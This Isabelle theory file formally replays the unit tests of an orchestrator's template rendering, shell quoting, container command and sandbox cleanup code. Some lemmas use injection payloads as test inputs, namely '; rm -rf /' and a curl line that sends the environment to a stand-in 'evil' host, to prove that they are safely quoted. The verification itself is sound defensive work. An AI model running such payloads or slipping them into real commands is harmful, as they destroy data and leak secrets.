(* ===== verification/Unit_Text.thy ===== *)
theory Unit_Text
  imports Nodes Docker
begin

text \<open>
  The unit tests of \<open>state.rs\<close>, \<open>container.rs\<close> and \<open>sandbox\<close> in \<open>boitata-orchestrator/src\<close>, replayed on
  the model: each lemma has the name, the inputs and the assertions of a test.
\<close>

section \<open>State and templates\<close>

definition with_var :: "string \<Rightarrow> string \<Rightarrow> state \<Rightarrow> state" where
  "with_var k v s = s\<lparr>vars := (vars s)(k \<mapsto> v)\<rparr>"

lemma apply_reduces_each_channel:
  "let s = apply_update (apply_update (new_state ''do it'') (from_node ''a'' ''first'' Ok)) (from_node ''b'' ''second'' Failed)
   in length (messages s) = 2 \<and> status s = Some Failed \<and> vars s ''a'' = Some ''first'' \<and>
      vars s ''b'' = Some ''second'' \<and> task s = ''do it''"
  by code_simp

lemma render_substitutes_task_and_vars:
  "render ''Task: {task}. Last check: {verify}. Unknown: {nope}''
     (with_var ''verify'' ''exit code 1'' (new_state ''fix the bug'')) =
   ''Task: fix the bug. Last check: exit code 1. Unknown: {nope}''"
  by code_simp

lemma render_does_not_rescan_substituted_values:
  "render ''{a}'' (with_var ''b'' ''SECRET'' (with_var ''a'' ''{b}'' (new_state ''t''))) = ''{b}''"
  by code_simp

lemma render_handles_unclosed_brace: "render ''a {b'' (new_state ''t'') = ''a {b''"
  by code_simp

lemma render_shell_escapes_interpolated_values:
  "render_shell ''echo {x}'' (with_var ''x'' ''; rm -rf /'' (new_state ''t'')) =
     ''echo '' @ [CHR 0x27] @ ''; rm -rf /'' @ [CHR 0x27]"
  "render_shell ''echo {y}'' (with_var ''y'' (''a'' @ [CHR 0x27] @ ''b'') (new_state ''t'')) =
     ''echo '' @ [CHR 0x27] @ ''a'' @ [CHR 0x27, CHR 0x5C, CHR 0x27, CHR 0x27] @ ''b'' @ [CHR 0x27]"
  "render_shell ''ls {nope}'' (new_state ''t'') = ''ls {nope}''"
  by code_simp+

section \<open>Commands for containers\<close>

definition quoted_word :: "string \<Rightarrow> string" where
  "quoted_word s = [CHR 0x27] @ s @ [CHR 0x27]"

lemma checkout_command_clones_into_path:
  "checkout_command ''https://example.com/r.git'' ''/workspace'' None =
     [''sh'', ''-c'', ''git clone '' @ quoted_word ''https://example.com/r.git'' @ '' '' @ quoted_word ''/workspace'']"
  by (simp add: checkout_command_def sh_c_def shell_quote_def quoted_word_def)

lemma checkout_command_checks_out_ref:
  "checkout_command ''r'' ''/w'' (Some ''v1.2'') =
     [''sh'', ''-c'', ''git clone '' @ quoted_word ''r'' @ '' '' @ quoted_word ''/w'' @ '' && git -C '' @ quoted_word ''/w'' @
        '' checkout '' @ quoted_word ''v1.2'']"
  by (simp add: checkout_command_def sh_c_def shell_quote_def quoted_word_def)

lemma exec_command_escapes_interpolated_state:
  "exec_command ''touch /workspace/{plan}'' (with_var ''plan'' ''x; curl http://evil/?k=$(env) #'' (new_state ''benign'')) =
     [''sh'', ''-c'', ''touch /workspace/'' @ quoted_word ''x; curl http://evil/?k=$(env) #'']"
  by code_simp

lemma shell_quote_neutralizes_injection:
  "checkout_command ''; rm -rf /'' ''/w'' None ! 2 =
     ''git clone '' @ quoted_word ''; rm -rf /'' @ '' '' @ quoted_word ''/w''"
  "shell_quote (''a'' @ [CHR 0x27] @ ''b'') =
     quoted_word (''a'' @ [CHR 0x27, CHR 0x5C, CHR 0x27, CHR 0x27] @ ''b'')"
  by (simp_all add: checkout_command_def sh_c_def shell_quote_def quoted_word_def)

lemma resolve_env_forwards_set_vars_by_name:
  "resolve_env [''PATH'' \<mapsto> ''/bin''] Map.empty [''PATH''] = [(''PATH'', ''/bin'')]"
  by (simp add: resolve_env_def List.map_filter_simps trim_graphic graphic_def)

lemma resolve_env_falls_back_to_defaults_then_skips:
  "resolve_env Map.empty [''DEFAULTED'' \<mapsto> ''from-config''] [''DEFAULTED'', ''UNSET''] =
     [(''DEFAULTED'', ''from-config'')]"
  by (simp add: resolve_env_def List.map_filter_simps)

lemma launch_command_quotes_the_agent_command:
  "launch_command ''; rm -rf / #'' 9000 =
     [''sh'', ''-c'', ''nohup '' @ quoted_word ''; rm -rf / #'' @
        '' --addr 0.0.0.0:9000 >/tmp/boitata-agent.log 2>&1 & echo $! >/tmp/boitata-agent.pid'']"
proof -
  have "show_nat 9000 = ''9000''" by (simp add: show_nat.simps digit_char_def, code_simp)
  then show ?thesis by (simp add: launch_command_def sh_c_def pid_file_def shell_quote_def quoted_word_def)
qed

section \<open>Sandboxes\<close>

text \<open>The tests cap the output at 1 MiB; the cap is an argument here.\<close>

lemma append_capped_bounds_output_on_char_boundary:
  "append_capped 5 [] ''xxxxxxxxx'' False = (''xxxxx'', True)"
  "fst (append_capped 5 ''xxxxx'' ''more'' True) = ''xxxxx''"
  by code_simp+

lemma append_capped_respects_utf8_boundaries:
  "append_capped 5 ''aaaa'' [CHR 0xE2, CHR 0x82, CHR 0xAC] False = (''aaaa'', True)"
  by code_simp

text \<open>The tests' backend: it numbers what it provisions and records what it destroys.\<close>

definition fake_sandbox :: "(nat \<times> string list) sandbox_host" where
  "fake_sandbox =
     \<lparr>sb_provision = (\<lambda>img env (n, gone). (Inr (img @ ''-'' @ show_nat n), (Suc n, gone))),
      sb_exec = (\<lambda>i argv wd w. (Inr (0, []), w)),
      sb_endpoint = (\<lambda>i port w. (Inr (i @ '':'' @ show_nat port), w)),
      sb_destroy = (\<lambda>i (n, gone). (Inr (), (n, gone @ [i])))\<rparr>"

lemma cleanup_destroys_every_provisioned_sandbox:
  "let s0 = fresh_sandboxes (0, []);
       (a, s1) = sandboxes_provision fake_sandbox ''img'' [] s0;
       (b, s2) = sandboxes_provision fake_sandbox ''img'' [] s1;
       s3 = sandboxes_cleanup fake_sandbox s2
   in a = Inr ''img-0'' \<and> b = Inr ''img-1'' \<and> snd (sx_world s3) = [''img-0'', ''img-1''] \<and>
      sandboxes_cleanup fake_sandbox s3 = s3"
  by (simp add: fake_sandbox_def fresh_sandboxes_def sandboxes_provision_def sandboxes_cleanup_def show_nat.simps
    digit_char_def, code_simp)

end
